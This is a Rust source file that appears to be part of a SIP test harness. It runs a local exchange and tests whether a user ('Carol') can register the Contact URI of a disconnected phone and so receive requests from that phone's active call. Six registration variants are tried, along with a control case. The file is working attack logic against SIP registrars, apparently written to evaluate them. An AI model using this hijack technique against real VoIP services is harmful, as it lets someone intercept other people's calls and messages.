//! Attack 1: the user Carol registers, as one of Carol's contacts, the contact of a phone whose connection was lost, to receive the
//! requests inside that phone's call.

use std::io::{self, Error, ErrorKind};
use std::net::{IpAddr, Ipv4Addr};
use std::time::Duration;

use offhook_wire::{Message, Method};
use tokio::sync::mpsc;
use tokio::time::{Instant, sleep};

use super::Stage;
use crate::exchange::Exchange;
use crate::figure::{Figure, Limit, Value};
use crate::peer::{Conduct, Dialog, Kind, Phone, Serving};

const NAME: &str = "hijack";
/// How long the exchange may take to notice that a connection is gone.
const NOTICED: Duration = Duration::from_secs(5);
const AGAIN: Duration = Duration::from_millis(20);
/// A header that marks requests with and without the call's route.
const ROUTED: &str = "X-Routed";
const INSTANCE: &str = ";+sip.instance=\"<urn:uuid:f81d4fae-7dec-11d0-a765-00a0c91e6bf6>\"";

/// How the contact is registered.
#[derive(Copy, Clone, Debug, PartialEq, Eq)]
enum Way {
    /// After the connection was lost, with the contact as it is.
    Same,
    /// With the instance of the phone as well (RFC 5626).
    Instance,
    /// Written in another way (RFC 3261 §19.1.4).
    Equivalent,
    /// Before the connection is lost.
    Before,
    /// When the requests are waiting already.
    Waiting,
    /// The contact of the caller.
    Caller,
}

const WAYS: [Way; 6] = [Way::Same, Way::Instance, Way::Equivalent, Way::Before, Way::Waiting, Way::Caller];
/// What is sent inside the call, with and without its route.
const METHODS: [Method<'static>; 3] = [Method::Info, Method::Invite, Method::Bye];

pub(super) async fn run(stage: Stage) -> io::Result<Vec<Figure>> {
    let names = ["alice", "bob", "carol"];
    let users: Vec<String> =
        (0..=WAYS.len()).flat_map(|index| names.map(|name| format!("{name}{index}"))).collect();
    let exchange = Exchange::start(&stage.program, &users, false).await?;
    let (mut delivered, mut sent) = ([0, 0], [0, 0]);
    for (index, way) in WAYS.into_iter().enumerate() {
        let heard = hijack(&exchange, index, way).await?;
        for (place, count) in heard.into_iter().enumerate() {
            delivered[place] += count;
            sent[place] += METHODS.len() as u32;
        }
    }
    let returned = returned(&exchange, WAYS.len()).await?;
    exchange.stop().await?;
    let share = |name: &str, some, of| Figure::new(NAME, name, Value::share(some, of));
    Ok(vec![
        share("requests with the call's route delivered to Carol", delivered[0], sent[0]).limit(Limit::None),
        share("requests without it delivered to Carol", delivered[1], sent[1]).limit(Limit::None),
        share("delivered to the phone itself when it is back", returned, 2).limit(Limit::All),
    ])
}

/// A call from Alice to Bob, both on WebSockets.
struct Scene {
    alice: Phone,
    /// Alice's side of the call.
    dialog: Dialog,
    bob: Serving,
    /// Bob's Contact URI, and the INVITE that arrived there.
    contact: String,
    invite: Message,
}

impl Scene {
    async fn new(exchange: &Exchange, index: usize) -> io::Result<Self> {
        let mut alice = phone(exchange, "alice", index).await?;
        let mut bob = phone(exchange, "bob", index).await?;
        alice.register().await?;
        let contact = bob.contact.clone();
        bob.register_contact(&format!("<{contact}>{INSTANCE}")).await?;
        let mut requests = bob.keep();
        let bob = bob.serve(Conduct::Answer);
        let dialog = alice.call(&aor(exchange, "bob", index)).await?;
        let invite = requests.recv().await.ok_or(ErrorKind::BrokenPipe)?;
        Ok(Self { alice, dialog, bob, contact, invite })
    }
}

/// Carol's phone, and the requests that arrive there.
struct Carol {
    kept: mpsc::Receiver<Message>,
    _phone: Serving,
}

impl Carol {
    /// Registers two contacts: the phone's own, so that it is reachable in any case, and `contact`.
    async fn register(exchange: &Exchange, index: usize, contact: &str) -> io::Result<Self> {
        let mut carol = phone(exchange, "carol", index).await?;
        carol.register().await?;
        // An exchange may refuse it.
        let _ = carol.register_contact(contact).await;
        let kept = carol.keep();
        Ok(Self { kept, _phone: carol.serve(Conduct::Answer) })
    }
}

async fn phone(exchange: &Exchange, name: &str, index: usize) -> io::Result<Phone> {
    let address: IpAddr = Ipv4Addr::new(127, 64, name.len() as u8, index as u8 + 1).into();
    Phone::open(exchange.account(&format!("{name}{index}")), Kind::Ws, address).await
}

fn aor(exchange: &Exchange, name: &str, index: usize) -> String {
    exchange.account(&format!("{name}{index}")).aor()
}

/// How many requests arrived at Carol's phone: with the route, and without.
async fn hijack(exchange: &Exchange, index: usize, way: Way) -> io::Result<[u32; 2]> {
    let scene = Scene::new(exchange, index).await?;
    if way == Way::Caller {
        return hijack_caller(exchange, index, scene).await;
    }
    let Scene { mut alice, mut dialog, bob, contact, .. } = scene;
    let stolen = match way {
        Way::Instance => format!("<{contact}>{INSTANCE}"),
        Way::Equivalent => format!("<{}>", contact.replace(".invalid", ".INVALID")),
        _ => format!("<{contact}>"),
    };
    let mut carol = None;
    if way == Way::Before {
        carol = Some(Carol::register(exchange, index, &stolen).await?);
    }
    bob.cut();
    gone(&mut alice, &aor(exchange, "bob", index)).await?;
    if matches!(way, Way::Same | Way::Instance | Way::Equivalent) {
        carol = Some(Carol::register(exchange, index, &stolen).await?);
    }
    send(&mut alice, &mut dialog, &METHODS).await?;
    let mut carol = match carol {
        Some(carol) => carol,
        None => {
            // Once this is answered, the requests before it have been taken.
            alice.reach(&aor(exchange, "alice", index)).await?;
            Carol::register(exchange, index, &stolen).await?
        }
    };
    alice.reach(&aor(exchange, "carol", index)).await?;
    Ok(count(&mut carol.kept))
}

/// The same with the ends exchanged: the caller's connection is lost, and the callee sends.
async fn hijack_caller(exchange: &Exchange, index: usize, scene: Scene) -> io::Result<[u32; 2]> {
    let Scene { alice, bob, invite, .. } = scene;
    let stolen = format!("<{}>", alice.contact);
    let mut bob = bob.stop().await.ok_or(ErrorKind::BrokenPipe)?;
    let mut dialog = Dialog::of_callee(&invite, &bob.tag()).ok_or(ErrorKind::InvalidData)?;
    drop(alice);
    gone(&mut bob, &aor(exchange, "alice", index)).await?;
    let mut carol = Carol::register(exchange, index, &stolen).await?;
    send(&mut bob, &mut dialog, &METHODS).await?;
    bob.reach(&aor(exchange, "carol", index)).await?;
    Ok(count(&mut carol.kept))
}

/// The control: Bob's phone returns on a new connection while Carol has its contact. How many of two requests arrive there.
async fn returned(exchange: &Exchange, index: usize) -> io::Result<u32> {
    let Scene { mut alice, mut dialog, bob, contact, .. } = Scene::new(exchange, index).await?;
    bob.cut();
    gone(&mut alice, &aor(exchange, "bob", index)).await?;
    let _carol = Carol::register(exchange, index, &format!("<{contact}>")).await?;
    let mut bob = phone(exchange, "bob", index).await?;
    bob.register_contact(&format!("<{contact}>{INSTANCE}")).await?;
    let mut kept = bob.keep();
    let _bob = bob.serve(Conduct::Answer);
    send(&mut alice, &mut dialog, &METHODS[..1]).await?;
    alice.reach(&aor(exchange, "bob", index)).await?;
    let [routed, unrouted] = count(&mut kept);
    Ok(routed + unrouted)
}

/// Sends these requests inside the call, first with its route, then without.
async fn send(phone: &mut Phone, dialog: &mut Dialog, methods: &[Method<'static>]) -> io::Result<()> {
    for routed in [true, false] {
        for &method in methods {
            let contact = format!("<{}>", phone.contact);
            let request = dialog.next(method, routed).with("Contact", contact);
            phone.send(&request.with(ROUTED, routed.to_string())).await?;
        }
    }
    Ok(())
}

/// Waits until an address-of-record has no contact.
async fn gone(phone: &mut Phone, aor: &str) -> io::Result<()> {
    let end = Instant::now() + NOTICED;
    while phone.reach(aor).await.is_ok() {
        if Instant::now() > end {
            return Err(Error::other(format!("{aor} is still registered after its connection was lost")));
        }
        sleep(AGAIN).await;
    }
    Ok(())
}

/// The requests of the call among those that arrived.
fn count(kept: &mut mpsc::Receiver<Message>) -> [u32; 2] {
    let mut counts = [0, 0];
    while let Ok(request) = kept.try_recv() {
        match request.named(ROUTED) {
            Some(b"true") => counts[0] += 1,
            Some(b"false") => counts[1] += 1,
            _ => {}
        }
    }
    counts
}
